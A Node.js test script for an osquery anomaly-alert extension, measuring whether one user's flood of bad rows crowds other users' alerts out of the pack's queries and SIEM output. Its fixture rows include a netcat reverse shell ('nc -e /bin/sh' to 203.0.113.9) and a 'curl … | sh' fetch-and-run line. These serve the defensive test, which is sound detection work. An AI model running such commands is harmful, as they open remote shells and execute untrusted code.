#!/usr/bin/env node
// What one local account's own flood of bad rows does to the alert pack's queries
// (packs/anomaly-alerts.conf), and whether another account's alert gets through.
//
// eve runs a never-seen program of her own `--rate` times a day (a bad row is never learnt as
// normal, so each stays bad), from a path and directory of control characters with an
// argument list of them (37 kB of kept columns, rootsafe) and reasons of 1,400 three-byte
// characters of her own words; her windows are bad too. alice has one bad row at noon and one
// ten minutes before the end; bob one bad window. Among eve's rows, two thirds into the day,
// her real alert: one `curl … | sh` (a row of another event, scored 0.21, not her lowest). The rows are retained as the scorer retains
// them (state/scores.ts), a day of them, then:
//  1. the day as osqueryd's schedule sees it: every `--tick` seconds the pack's `bad` query's
//     answer as the table plugin makes it, with the context osqueryd sends (the time bound the
//     query's strftime gives at that moment, colsUsed); its wire bytes, whether it passes the
//     64 MB the extension refuses past, whether alice's rows are in it, and the rows the
//     differential log would report (not in the previous answer): what reaches the SIEM, and
//     which of eve's rows and distinct events were ever in an answer as rows of their own;
//  2. at the end of the day, the real extension under the emulator (real SQLite): the pack's
//     `bad` and `bad_windows` queries as written.
//   node scripts/alert-flood.js [--rate 32000] [--tick 600] [--dist DIR]
// --dist runs another build (its dist/ directory), e.g. the tree before a change.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const { alertRun } = require('./lib/alert-run');

const { opt, alerts, load, badAnswer } = alertRun(process.argv.slice(2));
const RATE = Number(opt('rate', 32000));
const TICK = Number(opt('tick', 600));
const { RetainedScores } = load('state', 'scores.js');
const { RetainedWindows } = load('state', 'windows.js');
const { scoresTable } = load('extension', 'tables', 'scores.js');
const { emulated } = load('test', 'helpers', 'emulated.js');

const REFUSED_PAST = 64 * 2 ** 20;

const odd = '\u0001';
const EVE_COLUMNS = JSON.stringify({
  pid: '4242',
  path: `/tmp/${odd.repeat(1024)}`,
  cmdline: `x ${odd.repeat(4096)}`,
  cwd: `/tmp/${odd.repeat(1024)}`,
  auid: '1001',
  uid: '1001',
});
const EVE_REASONS = `program \`/tmp/<tmp>/x\` never seen before (rarity); arguments ${'語'.repeat(1400)}`;
const evesRow = (i, time) => ({
  id: `eve-${i}`,
  time,
  host: 'web-01',
  subject: 'eve',
  query: 'pack_user-behavior_process_events',
  action: 'added',
  event: `exec /tmp/<tmp>/x <- /bin/bash ${'x'.repeat(260)}`,
  score: 0.05 + (i % 20) / 100,
  verdict: 'bad',
  model: 'rarity',
  reasons: EVE_REASONS,
  columns: EVE_COLUMNS,
});
const alicesRow = (i, time) => ({
  id: `alice-${i}`,
  time,
  host: 'web-01',
  subject: 'alice',
  query: 'pack_user-behavior_process_events',
  action: 'added',
  event: 'exec /usr/bin/nc <- /bin/bash',
  score: 0.12,
  verdict: 'bad',
  model: 'rarity',
  reasons: 'program `/usr/bin/nc` never seen before for alice (rarity)',
  columns: '{"path":"/usr/bin/nc","cmdline":"nc -e /bin/sh 203.0.113.9 4444"}',
});

const evesCurl = (time) => ({
  ...evesRow(0, time),
  id: 'eve-curl',
  event: 'exec /usr/bin/curl <- /bin/bash',
  score: 0.21,
  reasons: 'program `/usr/bin/curl` never seen before (rarity)',
  columns: JSON.stringify({ pid: '31337', path: '/usr/bin/curl', cmdline: 'curl -s https://203.0.113.9/i | sh', auid: '1001', uid: '1001' }),
});

/** a Thrift map of strings per row: its header, and each key and value with their lengths */
const wireBytes = (row) => 6 + Object.entries(row).reduce((n, [k, v]) => n + 8 + Buffer.byteLength(k) + Buffer.byteLength(v), 0);

async function main() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'flood-'));
  const e = await emulated({ config: { learning: { min_events: 100000, min_days: 0 } } });
  try {
    const end = Math.floor(Date.now() / 1000);
    const begin = end - 86400;
    const alice = [begin + 43200, end - 600];
    const store = new RetainedScores({ dir: path.join(e.stateDir, 'scores'), maxRows: 1_000_000, maxDays: 30 });
    const table = scoresTable(store);
    const every = 86400 / RATE;
    let made = 0;
    let alicesMade = 0;
    let previous = new Set();
    let siem = 0;
    let refusedTicks = 0;
    let ticks = 0;
    let aliceMissed = 0;
    let maxBytes = 0;
    let maxRows = 0;
    const curlAt = begin + Math.floor((86400 * 2) / 3);
    let curlMade = false;
    /** eve's ids ever answered as a row of their own, and the tick her curl first was */
    const answeredOnce = new Set();
    let curlAnsweredTick = null;
    for (let now = begin + TICK; now <= end; now += TICK) {
      // the rows scored up to `now`, in time order
      const batch = [];
      for (; begin + made * every <= now; made++) batch.push(evesRow(made, Math.floor(begin + made * every)));
      for (; alicesMade < alice.length && alice[alicesMade] <= now; alicesMade++) batch.push(alicesRow(alicesMade, alice[alicesMade]));
      if (!curlMade && curlAt <= now) {
        batch.push(evesCurl(curlAt));
        curlMade = true;
      }
      batch.sort((a, b) => a.time - b.time);
      for (let i = 0; i < batch.length; i += 500) store.append(batch.slice(i, i + 500));
      let bytes = 0;
      let rows = 0;
      let refused = false;
      const seen = new Set();
      let alicesIn = 0;
      for await (const row of await badAnswer(table, now)) {
        bytes += wireBytes(row);
        rows++;
        if (row.subject === 'alice') alicesIn++;
        if (row.subject === 'eve' && row.model !== 'held-back') answeredOnce.add(row.id);
        if (row.id === 'eve-curl' && curlAnsweredTick === null) curlAnsweredTick = ticks;
        seen.add(JSON.stringify(row));
        if (bytes > REFUSED_PAST) {
          refused = true;
          break;
        }
      }
      ticks++;
      maxBytes = Math.max(maxBytes, bytes);
      maxRows = Math.max(maxRows, rows);
      if (refused) {
        // osqueryd logs the query's error and no rows; the next answer is compared to the last one logged
        refusedTicks++;
        if (alicesMade) aliceMissed++;
        continue;
      }
      if (alicesIn < alicesMade) aliceMissed++;
      for (const r of seen) if (!previous.has(r)) siem++;
      previous = seen;
    }
    store.close();
    console.log(
      JSON.stringify({
        phase: 'schedule',
        rate_per_day: RATE,
        tick_s: TICK,
        ticks,
        refused_ticks: refusedTicks,
        ticks_alice_missing: aliceMissed,
        max_answer_bytes: maxBytes,
        max_answer_rows: maxRows,
        siem_rows_day: siem,
        eve_rows_answered_once: answeredOnce.size,
        eve_rows: made + (curlMade ? 1 : 0),
        // eve's rows are two events: her flood's (one program, one line) and her curl
        eve_events_answered_once: Number([...answeredOnce].some((id) => id !== 'eve-curl')) + Number(answeredOnce.has('eve-curl')),
        curl_made_tick: Math.ceil((curlAt - begin) / TICK) - 1,
        curl_first_answered_tick: curlAnsweredTick,
      }),
    );

    const windows = new RetainedWindows({ dir: path.join(e.stateDir, 'window-scores'), maxRows: 1_000_000, maxDays: 30 });
    const ws = [];
    for (let s = begin; s + 600 <= end; s += 600)
      ws.push({
        subject: 'eve',
        host: 'web-01',
        start: s,
        end: s + 600,
        events: Math.round(RATE / 144),
        score: 0.01,
        verdict: 'bad',
        model: 'mix',
        reasons: EVE_REASONS,
        top_ids: '[]',
      });
    ws.push({
      subject: 'bob',
      host: 'web-01',
      start: end - 1800,
      end: end - 1200,
      events: 40,
      score: 0.2,
      verdict: 'bad',
      model: 'mix',
      reasons: 'an unusual mix',
      top_ids: '[]',
    });
    windows.append(ws.sort((a, b) => a.end - b.end));
    windows.close();

    await e.launch();
    for (const name of ['bad', 'bad_windows']) {
      const out = { phase: 'emulator', query: name };
      try {
        const rows = await e.emu.query(alerts.queries[name].query);
        out.rows = rows.length;
        out.bytes = rows.reduce((n, r) => n + wireBytes(r), 0);
        out.others = rows.filter((r) => r.subject !== 'eve').map((r) => `${r.subject}@${r.start ?? r.time}`);
        out.held = rows.filter((r) => r.model === 'held-back').map((r) => `${r.subject}: ${r.reasons?.slice(0, 200)}`);
      } catch (err) {
        out.error = String(err.message).slice(0, 300);
      }
      console.log(JSON.stringify(out));
    }
  } finally {
    await e.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
